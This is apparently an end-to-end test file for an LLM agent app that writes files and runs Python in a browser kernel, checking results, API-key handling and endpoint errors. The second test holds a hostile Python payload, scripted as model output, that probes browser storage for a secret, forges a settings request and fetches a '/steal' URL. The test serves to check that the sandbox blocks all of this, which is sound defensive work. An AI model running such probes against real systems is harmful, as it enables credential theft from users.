"""The agent in the real app: a user chats, the agent (scripted OpenAI-compatible server on
127.0.0.1) writes files and runs Python in the kernel, and the explorer shows the results."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from e2e.conftest import tree_item, wait_ready
from tests.llm_server import ScriptedLLM, html, status, text, tool_calls

API_KEY = "sk-e2e-CANARY-7g7g"
PRIMES_CODE = """
primes = [n for n in range(2, 80) if all(n % d for d in range(2, n))][:20]
with open("primes.txt", "w") as f:
    f.write(" ".join(map(str, primes)))
print(len(primes), "primes, the last is", primes[-1])
from llmos.kernel.png import line_chart
line_chart(primes)
"""


@pytest.fixture
def llm() -> Iterator[ScriptedLLM]:
    with ScriptedLLM() as server:
        yield server


def connect(page: Page, llm: ScriptedLLM) -> None:
    endpoint = {"name": "scripted", "base_url": llm.url, "model": "scripted-1", "api_key": API_KEY}
    reply = page.evaluate(
        "(endpoint) => window.llmos.request('llm.settings.set', {endpoint, mode: 'remote'})",
        endpoint,
    )
    assert reply["ok"], reply


def send(page: Page, message: str) -> None:
    """Type and send a message once the previous turn has ended, as a user would."""
    box = page.locator("#chat-in")
    expect(box).to_be_enabled()
    expect(page.locator("#chat-send")).to_have_text("Send")
    box.fill(message)
    box.press("Enter")


def call(name: str, **arguments: Any) -> tuple[str, str]:
    return (name, json.dumps(arguments))


def test_agent_writes_a_file_and_runs_python(app: Page, llm: ScriptedLLM) -> None:
    connect(app, llm)
    llm.queue(
        text("1. Write notes.md.\n2. Compute and plot the primes."),
        tool_calls(
            [
                call("write_file", path="notes.md", content="# Primes\nThe first 20 primes."),
                call("execute_python", code=PRIMES_CODE),
            ]
        ),
        text("Done: wrote **notes.md** and plotted the primes."),
    )
    send(app, "Write notes.md and plot the first 20 primes")

    expect(tree_item(app, "user/notes.md")).to_be_visible()
    expect(tree_item(app, "user/primes.txt")).to_be_visible()
    log = app.locator("#chat-log")
    expect(log.locator("strong", has_text="notes.md")).to_be_visible()
    expect(log.locator("img[src^='data:image/png']").first).to_be_visible()
    expect(log).to_contain_text("20 primes, the last is 71")
    expect(log.locator(".msg-assistant .speed").last).to_contain_text("tokens/s")
    # the model saw the Python output, and the key went only into the Authorization header
    final = llm.requests[-1]
    tool_results = [m["content"] for m in final["body"]["messages"] if m["role"] == "tool"]
    assert any("20 primes, the last is 71" in r for r in tool_results)
    assert final["headers"]["authorization"] == f"Bearer {API_KEY}"
    assert API_KEY not in json.dumps(final["body"])


def test_hostile_code_from_the_model_cannot_reach_the_key(app: Page, llm: ScriptedLLM) -> None:
    connect(app, llm)
    hostile = """
import js, json
found = []
async def probe(name, make):
    try:
        found.append(f"{name}: {await make()}")
    except Exception as error:
        found.append(f"{name}: blocked ({type(error).__name__})")
async def opfs():
    root = await js.navigator.storage.getDirectory()
    return [k async for k in root.keys()]
async def idb():
    return str(await js.indexedDB.databases())
async def store():
    return js.localStorage.getItem("llmos-secrets")
async def cache():
    return str(await js.caches.keys())
async def forged():
    js.postMessage(js.JSON.parse(json.dumps(
        {"type": "request", "id": "evil", "method": "settings.get", "params": {}})))
    return "posted"
async def offsite():
    return (await js.fetch("http://127.0.0.1:9/steal")).status
for name, make in [("opfs", opfs), ("idb", idb), ("localStorage", store), ("caches", cache),
                   ("forged", forged), ("fetch", offsite)]:
    await probe(name, make)
print("\\n".join(found))
"""
    llm.queue(
        text("1. probe"),
        tool_calls([call("execute_python", code=hostile)]),
        text("Probed."),
    )
    send(app, "run this python code for me")
    expect(app.locator("#chat-log")).to_contain_text("Probed.")
    results = [m["content"] for m in llm.requests[-1]["body"]["messages"] if m["role"] == "tool"]
    report = "\n".join(results)
    for probe in ("opfs", "idb", "localStorage", "caches", "fetch"):
        assert f"{probe}: blocked" in report, report
    assert API_KEY not in report
    assert API_KEY not in app.locator("#chat-log").inner_text()
    assert all(API_KEY not in json.dumps(r["body"]) for r in llm.requests)


def test_endpoint_failures_show_in_the_chat_and_nothing_is_lost(
    app: Page, llm: ScriptedLLM
) -> None:
    connect(app, llm)
    log = app.locator("#chat-log")
    llm.queue(status(401, body='{"error": {"message": "Incorrect API key provided"}}'))
    send(app, "hello")
    expect(log.locator("[role=alert]").last).to_contain_text("Incorrect API key provided")
    llm.queue(html(200))
    send(app, "hello again")
    expect(log.locator("[role=alert]").last).to_contain_text("HTML")
    llm.queue(text("Back to normal."))
    send(app, "third try")
    expect(log).to_contain_text("Back to normal.")
    users = log.locator("[data-kind='user']")
    expect(users).to_have_count(3)
    expect(users.nth(0)).to_contain_text("hello")
    # the model got the whole history, and the user's messages survived a reload
    sent = [m["content"] for m in llm.requests[-1]["body"]["messages"] if m["role"] == "user"]
    assert sent == ["hello", "hello again", "third try"]
    app.reload()
    wait_ready(app)
    expect(app.locator("#chat-log [data-kind='user']")).to_have_count(3)
    assert API_KEY not in app.locator("#chat-log").inner_text()
